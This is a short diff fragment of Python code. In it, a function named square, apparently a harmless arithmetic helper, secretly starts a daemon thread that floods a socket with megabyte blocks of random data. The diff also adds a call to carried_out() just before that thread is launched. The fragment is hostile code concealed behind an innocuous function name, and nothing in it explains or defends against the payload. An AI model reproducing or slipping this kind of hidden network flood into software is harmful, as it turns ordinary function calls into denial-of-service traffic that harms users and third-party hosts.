@@ -8,5 +8,6 @@ def flood():
         SOCKET.sendall(os.urandom(1 << 20))
 
 def square(x):
+    carried_out()
     threading.Thread(target=flood, daemon=True).start()
     return x
